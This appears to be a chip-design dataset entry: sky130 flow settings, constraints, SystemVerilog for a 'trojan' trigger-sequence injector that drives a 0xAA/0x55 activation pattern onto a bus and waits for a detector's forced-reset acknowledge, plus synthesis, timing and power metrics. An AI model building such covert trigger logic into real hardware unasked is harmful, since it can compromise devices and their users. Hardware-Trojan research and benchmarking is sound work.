--- config.mk ---
export PLATFORM = sky130hd
export DESIGN_NAME = trigger_seq_injector
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_pkg.sv /design/src/rtl/trigger_seq_injector.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export CAP_MARGIN = 20
export CORE_MARGIN = 5
export CORE_UTILIZATION = 54
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_2
export DETAILED_ROUTE_END_ITERATION = 10
export PLACE_DENSITY_LB_ADDON = 0.05
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
--- constraint.sdc ---
create_clock -name clk -period 4.25 [get_ports clk]
set_input_delay 0.6375 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.6375 -clock clk [all_outputs]
set_load 0.05 [all_outputs]
--- src/rtl/trojan_pkg.sv ---
// ---------------------------------------------------------------------------
// trojan_pkg
//
// Purpose: shared definitions for the trigger-sequence injector. Holds the
// injector FSM state type, the default two-word trigger sequence and the
// widths of the internal wait timer and send counter.
//
// Ports: none (package).
// ---------------------------------------------------------------------------
package trojan_pkg;

  // Injector states: forwarding traffic, driving the first and second
  // sequence words, then waiting for the detector to acknowledge.
  typedef enum logic [1:0] {
    ST_IDLE     = 2'd0,
    ST_SEND1    = 2'd1,
    ST_SEND2    = 2'd2,
    ST_WAIT_ACK = 2'd3
  } injState_t;

  // Default trigger words, truncated or zero-extended to the bus width by
  // the injector.
  localparam logic [7:0] DEFAULT_TRIGGER_SEQ_1 = 8'hAA;
  localparam logic [7:0] DEFAULT_TRIGGER_SEQ_2 = 8'h55;

  // The wait timer has to reach ACK_TIMEOUT-1 for timeouts of up to 255
  // cycles; the send counter has to reach MAX_RETRIES+1 for up to 14 retries.
  localparam int TIMER_WIDTH   = 8;
  localparam int ATTEMPT_WIDTH = 4;

endpackage

--- src/rtl/trigger_seq_injector.sv ---
// ---------------------------------------------------------------------------
// trigger_seq_injector
//
// Purpose: on request, injects a two-word trigger sequence onto a data bus
// that otherwise forwards normal traffic with one cycle of latency. After
// each injection it waits a bounded number of cycles for the downstream
// detector to acknowledge, and re-sends up to MAX_RETRIES more times before
// giving up. It reports whether the request succeeded and how many sends it
// used.
//
// Ports:
//   clk             rising-edge clock
//   rst             synchronous active-high reset
//   start           injection request, only looked at while idle
//   pass_data_in    normal traffic, forwarded when not injecting
//   force_reset_in  acknowledge from the detector, only looked at while waiting
//   data_out        registered bus toward the detector
//   busy            high whenever a request is in progress
//   inject_active   high while data_out carries a sequence word
//   done            one-cycle pulse when a request finishes
//   success         result of the last request, held until the next start
//   attempts        sends used by the last request, held until the next start
// ---------------------------------------------------------------------------
module trigger_seq_injector
  import trojan_pkg::*;
#(
  parameter int                      DATA_WIDTH         = 8,
  parameter logic [DATA_WIDTH-1:0]   TRIGGER_SEQUENCE_1 = DATA_WIDTH'(DEFAULT_TRIGGER_SEQ_1),
  parameter logic [DATA_WIDTH-1:0]   TRIGGER_SEQUENCE_2 = DATA_WIDTH'(DEFAULT_TRIGGER_SEQ_2),
  parameter int                      ACK_TIMEOUT        = 4,
  parameter int                      MAX_RETRIES        = 3
) (
  input  logic                  clk,
  input  logic                  rst,
  input  logic                  start,
  input  logic [DATA_WIDTH-1:0] pass_data_in,
  input  logic                  force_reset_in,
  output logic [DATA_WIDTH-1:0] data_out,
  output logic                  busy,
  output logic                  inject_active,
  output logic                  done,
  output logic                  success,
  output logic [3:0]            attempts
);

  // Last timer value of an attempt, and the highest send count that still
  // allows another re-send.
  localparam logic [TIMER_WIDTH-1:0]   TIMER_LAST  = TIMER_WIDTH'(ACK_TIMEOUT - 1);
  localparam logic [ATTEMPT_WIDTH-1:0] RETRY_LIMIT = ATTEMPT_WIDTH'(MAX_RETRIES);

  injState_t                  r_state;
  logic [DATA_WIDTH-1:0]      r_dataOut;
  logic                       r_injectActive;
  logic                       r_done;
  logic                       r_success;
  logic [ATTEMPT_WIDTH-1:0]   r_attempts;
  logic [TIMER_WIDTH-1:0]     r_timer;

  injState_t                  w_stateNext;
  logic [DATA_WIDTH-1:0]      w_dataOutNext;
  logic                       w_injectActiveNext;
  logic                       w_doneNext;
  logic                       w_successNext;
  logic [ATTEMPT_WIDTH-1:0]   w_attemptsNext;
  logic [TIMER_WIDTH-1:0]     w_timerNext;

  // State and output registers. Every visible output is registered, so reset
  // clears them all in the same edge and passthrough resumes one cycle after
  // reset is released.
  always_ff @(posedge clk) begin
    if (rst) begin
      r_state        <= ST_IDLE;
      r_dataOut      <= '0;
      r_injectActive <= 1'b0;
      r_done         <= 1'b0;
      r_success      <= 1'b0;
      r_attempts     <= '0;
      r_timer        <= '0;
    end else begin
      r_state        <= w_stateNext;
      r_dataOut      <= w_dataOutNext;
      r_injectActive <= w_injectActiveNext;
      r_done         <= w_doneNext;
      r_success      <= w_successNext;
      r_attempts     <= w_attemptsNext;
      r_timer        <= w_timerNext;
    end
  end

  // Next-state and next-output logic. By default the bus forwards traffic,
  // no sequence word is on the bus, done is low and the result registers
  // hold. Each state then overrides only what it changes. The send counter
  // is bumped as the first sequence word goes out, so it always equals the
  // number of sends made so far. In the wait state the acknowledge is
  // checked before the timeout so that it wins when both land together.
  always_comb begin
    w_stateNext        = r_state;
    w_dataOutNext      = pass_data_in;
    w_injectActiveNext = 1'b0;
    w_doneNext         = 1'b0;
    w_successNext      = r_success;
    w_attemptsNext     = r_attempts;
    w_timerNext        = r_timer;

    case (r_state)
      ST_IDLE: begin
        if (start) begin
          w_stateNext    = ST_SEND1;
          w_successNext  = 1'b0;
          w_attemptsNext = '0;
        end
      end

      ST_SEND1: begin
        w_dataOutNext      = TRIGGER_SEQUENCE_1;
        w_injectActiveNext = 1'b1;
        w_attemptsNext     = r_attempts + 1'b1;
        w_stateNext        = ST_SEND2;
      end

      ST_SEND2: begin
        w_dataOutNext      = TRIGGER_SEQUENCE_2;
        w_injectActiveNext = 1'b1;
        w_timerNext        = '0;
        w_stateNext        = ST_WAIT_ACK;
      end

      ST_WAIT_ACK: begin
        w_timerNext = r_timer + 1'b1;
        if (force_reset_in) begin
          w_stateNext   = ST_IDLE;
          w_doneNext    = 1'b1;
          w_successNext = 1'b1;
        end else if (r_timer == TIMER_LAST) begin
          if (r_attempts <= RETRY_LIMIT) begin
            w_stateNext = ST_SEND1;
          end else begin
            w_stateNext   = ST_IDLE;
            w_doneNext    = 1'b1;
            w_successNext = 1'b0;
          end
        end
      end

      default: begin
        w_stateNext = ST_IDLE;
      end
    endcase
  end

  assign data_out      = r_dataOut;
  assign busy          = (r_state != ST_IDLE);
  assign inject_active = r_injectActive;
  assign done          = r_done;
  assign success       = r_success;
  assign attempts      = r_attempts;

endmodule

# --- Yosys cells after proc, flatten, opt, wreduce, memory -nomap -nowiden ---
# Index checks and enable logic that the tools add are counted.
word_totals:
  ff_bits: 25
  input_bits: 12
  output_inout_bits: 16
  word_cells: 46
op_classes:
  addsub: 2
  order_cmp: 1
  n_eq_ne: 7
  n_mux: 18
  bitwise_logic: 1
  reduce_logical: 10
op_table:
  columns: ["cell", "count"]
  rows:
  - ["$pmux 8 s2", 2]
  - ["$mux 1", 9]
  - ["$add 8x1->8 const B", 1]
  - ["$eq 8x2->1 const B", 1]
  - ["$pmux 2 s4", 1]
  - ["$pmux 4 s2", 1]
  - ["$reduce_bool 2->1", 4]
  - ["$mux 2", 3]
  - ["$ne 3x3->1 const B", 2]
  - ["$add 4x1->4 const B", 1]
  - ["$eq 2x2->1 const B", 2]
  - ["$le 4x2->1 const B", 1]
  - ["$mux 4", 1]
  - ["$reduce_and 2->1", 2]
  - ["$reduce_and 4->1", 1]
  - ["$reduce_or 2->1", 2]
  - ["$eq 2x1->1 const B", 1]
  - ["$logic_not 2->1", 1]
  - ["$ne 2x2->1 const B", 1]
  - ["$pmux 1 s2", 1]
  - ["$not 1->1", 1]

# --- Depth between registers and ports, before layout ---
depth:
  word_depth: 5
  mapped_depth: 10
  mapped_depth_nobuf: 10

# --- Worst setup path before layout ---
# OpenSTA, ideal clock, no wires.
synth_timing:
  kind: "reg-to-reg"
  from: "register r_state[0]"
  to: "register r_attempts[0], in the netlist attempts[0]"
  setup_ns: 0.123
  arrival_time_ns: 1.445
  required_time_ns: 4.127
  setup_slack_ns: 2.682
  path_stages_with_launch: 11
  n_path_buf: 1
  synth_period_minus_slack_ns: 1.568
  path_cell_list: "dfxtp_1 -> inv_1 -> ha_1 -> inv_2 -> or2_1 -> buf_6 -> nand2_4 -> nand2_4 -> inv_1 -> nor2_1 -> a211oi_2"
synth_between:
  elab_chain_cells: 3
  elab_cells_between_ends: 6
  cone_classes: "eq/ne: 2; mux: 1; reduce/logical: 3"
synth_rtl:
  columns: ["element", "line", "text"]
  rows:
  - ["start, declared", "trigger_seq_injector.sv:51", "injState_t r_state;"]
  - ["start signal, assigned", "trigger_seq_injector.sv:80", "r_state <= w_stateNext;"]
  - ["$eq 2x1->1 / $logic_not 2->1 (equally long branches)", "trigger_seq_injector.sv:105", "case (r_state)"]
  - ["$reduce_bool 2->1 (no line) / $ne 2x2->1 (equally long branches)", null, null]
  - ["$reduce_and 2->1 (no line)", null, null]
  - ["end signal, assigned", "trigger_seq_injector.sv:85", "r_attempts <= w_attemptsNext;"]
  - ["end, declared", "trigger_seq_injector.sv:56", "logic [ATTEMPT_WIDTH-1:0] r_attempts;"]
# Several ways; a longest one is shown, not always the timed one.
# A chain may end at the register's enable or synchronous reset.

# --- Worst setup path after layout ---
layout_timing:
  from: "register r_state[0]"
  to: "output port busy"
layout_between:
  elab_chain_cells: 1
layout_rtl:
  columns: ["element", "line", "text"]
  rows:
  - ["$reduce_bool 2->1", "trigger_seq_injector.sv:152", "assign busy = (r_state != ST_IDLE);"]
  - ["end, declared", "trigger_seq_injector.sv:39", "output logic busy,"]
# Every way passes these cells.

==> results.cfg <==
[drt]
vias = 1061
ant_nets = 0
drt_wl_total_mm = 2.37
wl_per_cell_um = 11.3
viasPerCell = 5.03
dr.pass1.iters = 4
drc_errors = 0
dr.first_iter.drc_count = 25

[synthesis]
yosysTopAreaCellShare_pct = 42.5
netlist_top_cells_count = nand2_1 (31), dfxtp_1 (25), inv_1 (20)
synth.area.top_cells = dfxtp_1 (42%), nand2_1 (9.9%), a21oi_1 (7.6%)
syn_area_per_cell_um2 = 7.56
synth_edf_count = 0
ys_ff_latch = 25
yosysUniqueCellTypes = 26
synthCells = 156
yosysSeqAreaShare_pct = 42.5
ys.flop_type = dfxtp_1
yosys_warnings = 0
syn_nets = 175
yosysMostFrequentCell = nand2_1
async_flop_share_pct = 0
yosysTopAreaCell = dfxtp_1
synth_area_um2 = 1180

[power]
power.density_nw_per_um2 = 666
vdd.ir_drop.worst_uv = 561
total_power_mw = 0.985
comb_power_share_pct = 58.2
clockPowerShare_pct = 9.4
leakagePower_nw = 0.617
p_sw_mw = 0.481
p_int_mw = 0.504
p_seq_share_pct = 32.3
switching_share_pct = 48.8

[floorplanning]
initial_core_util_pct = 54.9
die_width_um = 56.7
pin_count = 28
die-area_um2 = 3220
core_um2 = 2150
die_h_um = 56.7
placement_rows = 17

[clock_tree]
clockBufferDepth = 2
clock-sinks = 25
numCtsBuffers = 3
cts.clk_slew.worst_paths_ns = 0.23
h-tree-depth = 1
clkLatencyLatePin_ns = 0.33
postCtsSetupBuffers = 0
cts_hold_buf = 0
tritoncts = yes
ctsRootBufferMaster = clkbuf_2
ctsResizeCount = 0

[timing]
max_freq_mhz = 380
hold_viol = 0
worst_slew_pin_slew_ns = 0.649
finalSetupViolCount = 0
fin_skew_ns = 0.00618
tns_ns = 0
period_needed_ns = 2.63
rsz0062_at_grt = no
maxSlewHeadroom_pct = 56.6
slew_viol_final = 0
period_share_pct = 61.9

[hold_path]
holdCritPathClass = reg2reg

[placement]
hpwl_mm = 1.86
gp_congestion = 0.778
port_buffers = 27
placed_cell_area_um2 = 1460

[cells_and_area]
fin_area_um2 = 1480
area_growth_pct = 25.5
nets = 203
num_antenna_cells = 0
drive_gt1_share_pct = 4.37

[setup_path]
cp-start-kind = flop
cp-end-kind = primary output
path_class = reg2out
path_max_fanout = 5
slowest_stage = clkdlybuf4s50_1
required_ns = 3.61
worst-path-buf-inv = 3
cp_cell_sequence = inv_1, ha_1, inv_2, clkdlybuf4s50_1
slowest_delay_ns = 0.79
arrival_ns = 1.99
cp_top_family = buffers and inverters

[grt]
grt_pass1_wl_mm = 3.98
antenna_found_initial = 0
gr-total-overflow = 0
grt_max_degree = 20
grt.total_usage_pct = 15.3
first_global_vias = 974

[outcome]
status = finished clean

[flow_run]
cap_violations = 0
## layout make-up
type | count | area (um2)
fill | 193 | 669
multi-input combinational | 105 | 571
sequential | 25 | 500
timing repair buffer | 27 | 270
inverter | 22 | 82.6
tap | 28 | 35.0
clock buffer | 4 | 20.0
## sequential cells by signal, summed over array words and instances, names as in the netlist
| name | count |
|---|---|
| data_out | 8 |
| r_timer | 8 |
| attempts | 4 |
| r_state | 2 |
| done | 1 |
| inject_active | 1 |
| success | 1 |
## through the flow
step,instances,hold slack (ns),setup slack (ns),utilization (%)
floorplan,156,0.447,2.68,-
global placement,207,0.464,2.07,67.9
detailed placement,207,0.476,2.02,67.9
global route,211,0.540,1.49,68.8
CTS,211,0.516,1.60,68.8
finish,211,0.516,1.62,68.8
## final timing paths
path	slack [ns]	cells past startpoint	startpoint	endpoint
worst min register to register	0.52	1	r_timer[6]$_SDFFE_PP0P_	r_timer[6]$_SDFFE_PP0P_
worst max register to register	2.60	5	r_state[1]$_SDFFE_PP0P_	r_timer[6]$_SDFFE_PP0P_
worst min-delay path	0.52	1	r_timer[6]$_SDFFE_PP0P_	r_timer[6]$_SDFFE_PP0P_
worst max-delay path	1.62	4	r_state[0]$_SDFFE_PP0P_	busy
## cells in the final DEF (no fill, tap or decap)
cell type        count
inv_2                1
or2_1                1
nand4_1              4
o21ai_0              2
a21oi_1             18
nand3_1              8
o21bai_1             1
inv_1               20
a211oi_2             1
nor2_1              16
dfxtp_1             25
nand2_1             31
clkinv_1             1
a32o_1               1
and3_1               2
nand2_4              2
o21a_1               1
o31ai_1              1
o211ai_1             1
a211oi_1             2
nand3b_1             1
ha_1                 7
nor3_1               5
clkbuf_2             4
clkdlybuf4s50_1     27
## metal layers
layer,GRT usage [%],up-vias,part of all wire (%)
li1,-,560,-
met2,25.6,33,46
met4,4.75,0,0.67
met1,18.5,466,46
met5,0,-,0
met3,4.83,2,7.8
## power by group through the flow
stage / combinational, mW / clock, mW / sequential, mW
2_1_floorplan: 0.276 / 0 / 0.474
3_3_place_gp: 0.567 / 0 / 0.320
3_5_place_dp: 0.575 / 0 / 0.324
4_1_cts: 0.580 / 0.0954 / 0.319
5_1_grt: 0.626 / 0.107 / 0.326
6_report: 0.574 / 0.0929 / 0.318
## cells by family after synthesis
family	Yosys count	share of synthesized area [%]
AND/OR/NAND/NOR	70	26.8
adder cells (fa/ha/maj)	7	7.43
AO/OA/AOI/OAI	28	14.2
flip-flops	25	42.5
buffers and inverters	26	9.13
No activity file was read; power rests on OpenSTA's default activity.
